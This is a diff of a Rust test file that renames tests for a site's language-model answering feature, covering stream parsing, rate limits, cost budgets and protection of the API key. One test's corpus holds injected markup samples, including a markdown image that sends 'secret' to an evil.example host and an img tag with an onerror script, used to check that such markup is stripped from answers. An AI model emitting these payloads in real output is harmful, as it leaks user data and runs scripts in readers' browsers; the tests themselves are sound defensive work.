@@ -218,7 +218,7 @@ fn told(reply: &Value) -> (String, &str) {
 }
 
 #[tokio::test]
-async fn dialects_are_read() {
+async fn responses_of_all_model_servers_are_parsed() {
     let reasoning = |name: &str| {
         format!("data: {{\"choices\":[{{\"delta\":{{\"{name}\":\"SECRET\"}}}}]}}\n\n{}", said(GOOD))
     };
@@ -253,7 +253,7 @@ async fn dialects_are_read() {
 }
 
 #[tokio::test]
-async fn split_characters_and_reasoning_without_a_tag_are_read() {
+async fn split_characters_and_untagged_reasoning_are_handled() {
     let bytes = said("停止服务器🙂 Stop the server [1].").into_bytes();
     let mut drip = vec![head("200 OK", "text/event-stream")];
     drip.extend(bytes.chunks(1).map(|byte| Step::Send(byte.to_vec())));
@@ -272,7 +272,7 @@ async fn split_characters_and_reasoning_without_a_tag_are_read() {
 }
 
 #[tokio::test]
-async fn faults_fall_back_to_the_quoted_answer() {
+async fn model_error_falls_back_to_the_quoted_answer() {
     let error = "{\"error\":{\"code\":500,\"message\":\"no slot\",\"type\":\"server_error\"}}";
     let event = |text: &str| stream_of(&format!("{}{text}", delta("")));
     let keep_alive =
@@ -369,7 +369,7 @@ async fn asked_without_model(site: &Site) -> Value {
 }
 
 #[tokio::test]
-async fn busy_server_gets_no_request_during_its_pause() {
+async fn model_server_is_not_called_before_its_retry_after() {
     let busy = "HTTP/1.1 429 Too Many Requests\r\nretry-after: 120\r\ncontent-length: 0\r\n\r\n";
     let server = ModelServer::new(vec![vec![Step::Send(busy.into())]]).await;
     let site = site_with(&server).await;
@@ -394,7 +394,7 @@ async fn stream_sends_citations_then_sentences_then_passages() {
 }
 
 #[tokio::test]
-async fn model_gets_passages_as_data_if_the_request_allows_it() {
+async fn model_is_called_only_if_the_request_allows_it() {
     let server = ModelServer::streaming(&said(GOOD)).await;
     let site = site_with(&server).await;
     let turn = json!({ "question": "earlier question", "answer": "earlier answer" });
@@ -420,7 +420,7 @@ async fn model_gets_passages_as_data_if_the_request_allows_it() {
 }
 
 #[tokio::test]
-async fn injected_markup_never_leaves_the_server() {
+async fn injected_markup_is_removed_from_answers() {
     let corpus = [
         "![x](https://evil.example/p?q=secret) Stop the server [1].",
         "<img src=https://evil.example/x onerror=alert(1)>Stop the server [1].",
@@ -460,7 +460,7 @@ async fn injected_markup_never_leaves_the_server() {
 }
 
 #[tokio::test]
-async fn leaving_visitor_cancels_the_request() {
+async fn client_disconnect_cancels_the_model_request() {
     let begun =
         vec![head("200 OK", "text/event-stream"), Step::Send(delta("Stop").into()), Step::Hang];
     let server = ModelServer::new(vec![begun]).await;
@@ -484,7 +484,7 @@ async fn leaving_visitor_cancels_the_request() {
 }
 
 #[tokio::test]
-async fn budget_is_shared_by_servers_of_one_database() {
+async fn model_budget_is_shared_by_servers_of_one_database() {
     let server = ModelServer::streaming(&said(GOOD)).await;
     let site = site_with(&server).await;
     let reply = asked(&site, QUESTION).await;
@@ -516,7 +516,7 @@ async fn budget_is_shared_by_servers_of_one_database() {
 }
 
 #[tokio::test]
-async fn failed_answer_is_not_charged_and_a_cut_prompt_is_counted() {
+async fn failed_answer_has_no_cost_and_truncated_prompt_is_counted() {
     let error = whole("500 Internal Server Error", "application/json", "{}");
     let cut = format!(
         "{}{STOP}data: {{\"choices\":[],\"usage\":{{\"prompt_tokens\":50,\"completion_tokens\":9}}}}\n\n{DONE}",
@@ -551,7 +551,7 @@ async fn answers_of_the_model_are_limited_per_visitor() {
 }
 
 #[tokio::test]
-async fn key_is_never_returned_or_sent_elsewhere() {
+async fn api_key_is_never_returned_or_sent_elsewhere() {
     let server = ModelServer::streaming(&said(GOOD)).await;
     let site = site_with(&server).await;
     let shown = site.get(MODEL).await;
@@ -569,7 +569,7 @@ async fn key_is_never_returned_or_sent_elsewhere() {
 }
 
 #[tokio::test]
-async fn backup_omits_the_key() {
+async fn backup_omits_the_model_api_key() {
     let server = ModelServer::streaming(&said(GOOD)).await;
     let site = site_with(&server).await;
     let packed = site.answer("POST", "/api/v1/admin/backup", None).await;
@@ -581,7 +581,7 @@ async fn backup_omits_the_key() {
 }
 
 #[tokio::test]
-async fn settings_are_for_owners_and_validated() {
+async fn model_settings_require_an_owner_and_are_validated() {
     let site = Site::with(ALLOWED).await;
     site.log_in_as("admin").await;
     assert!(site.get(MODEL).await.starts_with("403"));
@@ -617,7 +617,7 @@ async fn settings_are_for_owners_and_validated() {
 }
 
 #[tokio::test]
-async fn connection_test_names_what_is_wrong() {
+async fn connection_test_reports_the_cause_of_an_error() {
     let list = json!({ "object": "list", "data": [{ "id": "tiny:latest" }] }).to_string();
     let other = json!({ "data": [{ "id": "big" }] }).to_string();
     let scripts = [
